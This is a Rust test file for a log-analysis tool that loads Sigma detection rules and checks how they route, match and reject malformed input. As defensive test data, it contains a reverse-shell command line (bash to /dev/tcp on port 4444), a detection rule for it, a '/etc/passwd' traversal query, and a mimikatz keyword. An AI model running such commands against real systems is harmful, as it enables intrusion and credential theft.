use std::path::Path;

use loglynx_core::{Event, Timestamp};

use super::*;

fn load(files: &[(&str, &str)]) -> (tempfile::TempDir, RuleSet) {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    let set = RuleSet::load(&[dir.path()]).unwrap();
    (dir, set)
}

fn one_rejection(set: &RuleSet) -> &Rejection {
    assert_eq!(set.rejected().len(), 1, "{:?}", set.rejected());
    &set.rejected()[0]
}

fn file_name(r: &Rejection) -> &str {
    r.file.file_name().and_then(|n| n.to_str()).unwrap()
}

const SSHD: &str = "title: ssh failure\nid: 6d4c4d5e-0000-4000-8000-000000000001\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  keywords:\n    - 'Failed password'\n  condition: keywords\nlevel: medium\nauthor: someone\n";

fn sshd_event(msg: &str, process: &str) -> Event {
    let mut e = Event::new(
        msg,
        Timestamp::from_secs(1),
        Timestamp::from_secs(1),
        "1".into(),
    );
    e.process_name = Some(process.into());
    e
}

#[test]
fn a_routed_rule_matches_its_events_only() {
    let (_d, set) = load(&[("good.yml", SSHD)]);
    assert_eq!(set.loaded(), 1);
    assert_eq!(set.active().len(), 1);
    let hit = set.matching_rules(&sshd_event(
        "Failed password for root from 1.2.3.4 port 22 ssh2",
        "sshd",
    ));
    assert_eq!(hit.len(), 1);
    assert_eq!(hit[0].title, "ssh failure");
    assert_eq!(hit[0].author.as_deref(), Some("someone"));
    assert!(set
        .matching_rules(&sshd_event("Accepted password for root", "sshd"))
        .is_empty());
    // older syslogs name the PAM module after the program
    assert_eq!(
        set.matching_rules(&sshd_event("Failed password for root", "sshd(pam_unix)"))
            .len(),
        1
    );
    // the routing: the same words from another program are not an sshd event
    assert!(set
        .matching_rules(&sshd_event("Failed password for root", "sudo"))
        .is_empty());
}

#[test]
fn sigma_field_names_are_mapped_to_loglynx_fields() {
    let rule = "title: web scan\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-method: POST\n    cs-uri-query|contains: '/etc/passwd'\n    sc-status: 200\n  condition: sel\n";
    let (_d, set) = load(&[("web.yml", rule)]);
    assert_eq!(set.active().len(), 1, "{:?}", set.rejected());
    let mut e = Event::new(
        "POST /x?f=/etc/passwd HTTP/1.1",
        Timestamp::from_secs(1),
        Timestamp::from_secs(1),
        "1".into(),
    );
    e.dataset = Some("apache.access".into());
    e.labels.insert("http.request.method".into(), "POST".into());
    e.labels
        .insert("url.original".into(), "/x?f=/etc/passwd".into());
    e.labels
        .insert("http.response.status_code".into(), "200".into());
    assert_eq!(set.matching_rules(&e).len(), 1);
    e.labels
        .insert("http.response.status_code".into(), "404".into());
    assert!(set.matching_rules(&e).is_empty());
}

#[test]
fn rules_for_logs_loglynx_does_not_collect_load_inactive() {
    let rule = "title: win\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    Image|endswith: '\\whoami.exe'\n  condition: sel\n";
    let (_d, set) = load(&[("win.yml", rule)]);
    assert_eq!(
        (set.loaded(), set.active().len(), set.inactive().len()),
        (1, 0, 1)
    );
}

#[test]
fn a_file_that_is_not_yaml_is_rejected_and_the_others_load() {
    let (_d, set) = load(&[
        ("good.yml", SSHD),
        ("bad.yml", "title: x\ndetection: [unclosed\n  - {\n"),
    ]);
    assert_eq!(set.loaded(), 1);
    let r = one_rejection(&set);
    assert_eq!(file_name(r), "bad.yml");
    assert!(r.reason.contains("fix the YAML syntax"), "{}", r.reason);
}

#[test]
fn an_unknown_modifier_is_rejected_at_its_line() {
    let rule = "title: m\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    message|containz: x\n  condition: sel\n";
    let (_d, set) = load(&[("m.yml", rule)]);
    let r = one_rejection(&set);
    assert_eq!(r.line, 7);
    assert!(
        r.reason.contains("containz") && r.reason.contains("use a modifier"),
        "{}",
        r.reason
    );
}

#[test]
fn a_condition_naming_a_missing_selection_is_rejected() {
    let rule = "title: c\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    message: x\n  condition: sel and not filter_typo\n";
    let (_d, set) = load(&[("c.yml", rule)]);
    let r = one_rejection(&set);
    assert_eq!(r.line, 8);
    assert!(
        r.reason.contains("'filter_typo'") && r.reason.contains("fix the condition"),
        "{}",
        r.reason
    );
}

#[test]
fn a_regex_that_does_not_compile_is_rejected() {
    let rule = "title: r\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    message|re: 'Failed (password'\n  condition: sel\n";
    let (_d, set) = load(&[("r.yml", rule)]);
    let r = one_rejection(&set);
    assert_eq!(r.line, 7);
    assert!(
        r.reason.contains("not a valid regular expression"),
        "{}",
        r.reason
    );
}

#[test]
fn a_correlation_referencing_an_unknown_rule_is_rejected() {
    let corr = "title: many failures\nname: many_failures\ncorrelation:\n  type: event_count\n  rules:\n    - ssh_failur\n  group-by:\n    - source.ip\n  timespan: 5m\n  condition:\n    gte: 10\n";
    let good = format!("{SSHD}name: ssh_failure\n---\ntitle: ok corr\ncorrelation:\n  type: event_count\n  rules:\n    - ssh_failure\n  group-by:\n    - source.ip\n  timespan: 5m\n  condition:\n    gte: 10\n");
    let (_d, set) = load(&[("a.yml", &good), ("b.yml", corr)]);
    assert_eq!(set.loaded(), 2, "{:?}", set.rejected());
    assert_eq!(set.correlations().count(), 1);
    let r = one_rejection(&set);
    assert_eq!((file_name(r), r.line), ("b.yml", 6));
    assert!(
        r.reason.contains("unknown rule 'ssh_failur'"),
        "{}",
        r.reason
    );
}

#[test]
fn a_missing_path_is_an_error() {
    let err = RuleSet::load(&[Path::new("/nonexistent/rules")]).unwrap_err();
    assert!(err.to_string().contains("/nonexistent/rules"));
}

#[test]
fn unrouted_rules_are_evaluated_when_asked() {
    let rule = "title: any\nlogsource:\n  product: windows\ndetection:\n  k: ['mimikatz']\n  condition: k\n";
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("w.yml"), rule).unwrap();
    let set = RuleSet::load_with(
        &[dir.path()],
        LoadOptions {
            evaluate_unrouted: true,
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(set.active().len(), 1);
    assert_eq!(
        set.matching_rules(&sshd_event("ran mimikatz.exe", "x"))
            .len(),
        1
    );
}

#[test]
fn a_condition_that_does_not_parse_is_rejected_on_one_line() {
    let rule = "title: c\nlogsource:\n  product: linux\ndetection:\n  sel:\n    a: 1\n  condition: sel and (\n";
    let (_d, set) = load(&[("c.yml", rule)]);
    let r = one_rejection(&set);
    assert_eq!(r.line, 7);
    assert_eq!(
        r.reason,
        "the condition does not parse at column 10: expected expr: fix the condition"
    );
}

const ALL_KEYWORDS: &str = "title: both words\nid: 6d4c4d5e-0000-4000-8000-000000000002\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  keywords:\n    '|contains|all':\n      - 'bash -c /bin/bash'\n      - '&/dev/tcp/'\n  condition: keywords\nlevel: high\n";

#[test]
fn keyword_items_with_all_are_gated_by_their_literals() {
    let (_d, set) = load(&[("all.yml", ALL_KEYWORDS)]);
    assert_eq!(set.active().len(), 1);
    // gated: evaluated only where the longest literal occurs, not on every sshd line
    assert_eq!(set.keyword_gated(), 1);
    let both = "Invalid user x: bash -c /bin/bash -i >&/dev/tcp/10.0.0.1/4444";
    assert_eq!(set.matching_rules(&sshd_event(both, "sshd")).len(), 1);
    for one in [
        "Invalid user x: bash -c /bin/bash",
        "Invalid user x: >&/dev/tcp/10.0.0.1/4444",
    ] {
        assert!(
            set.matching_rules(&sshd_event(one, "sshd")).is_empty(),
            "{one}"
        );
    }
    // the literal in another program's line: routed away
    assert!(set.matching_rules(&sshd_event(both, "cron")).is_empty());
}

#[test]
fn route_results_remembered_per_thread_are_those_of_the_rules_in_use() {
    // the same program routed by one rule set and not by the other, checked alternately on one
    // thread: each set's routes, never the other's remembered result
    let cron = SSHD.replace("service: sshd", "service: cron").replace(
        "6d4c4d5e-0000-4000-8000-000000000001",
        "6d4c4d5e-0000-4000-8000-000000000003",
    );
    let (_a, sshd_rules) = load(&[("sshd.yml", SSHD)]);
    let (_b, cron_rules) = load(&[("cron.yml", &cron)]);
    let line = "Failed password for root from 1.2.3.4 port 22 ssh2";
    for _ in 0..3 {
        for (process, sshd_hits, cron_hits) in [
            ("sshd", 1, 0),
            ("cron", 0, 1),
            ("CRON", 0, 1),
            ("sshd(pam_unix)", 1, 0),
        ] {
            let e = sshd_event(line, process);
            assert_eq!(sshd_rules.matching_rules(&e).len(), sshd_hits, "{process}");
            assert_eq!(cron_rules.matching_rules(&e).len(), cron_hits, "{process}");
        }
        // no program: neither route
        let mut e = sshd_event(line, "sshd");
        e.process_name = None;
        assert!(sshd_rules.matching_rules(&e).is_empty());
        assert!(cron_rules.matching_rules(&e).is_empty());
    }
}

#[test]
fn keywords_in_the_source_values_are_found_on_every_event_of_the_source() {
    // the host, program and file path are scanned once per thread and remembered: every event
    // of that source must still find the literal, and another source's events must not
    let rule = SSHD.replace("'Failed password'", "'box-7.example'");
    let (_a, set) = load(&[("host.yml", &rule)]);
    let (_b, other) = load(&[("other.yml", SSHD)]);
    assert_eq!(set.keyword_gated(), 1);
    for i in 0..3 {
        let mut e = sshd_event(&format!("Accepted password for u{i}"), "sshd");
        e.host = Some("BOX-7.example".into());
        assert_eq!(set.matching_rules(&e).len(), 1, "event {i} of the host");
        // the other rule set's engine sees the same host with its own literals
        assert!(other.matching_rules(&e).is_empty());
        e.host = Some("box-8.example".into());
        assert!(
            set.matching_rules(&e).is_empty(),
            "event {i} of another host"
        );
        e.host = None;
        e.file_path = Some("/var/log/box-7.example/auth.log".into());
        assert_eq!(
            set.matching_rules(&e).len(),
            1,
            "event {i} from a file naming it"
        );
    }
}
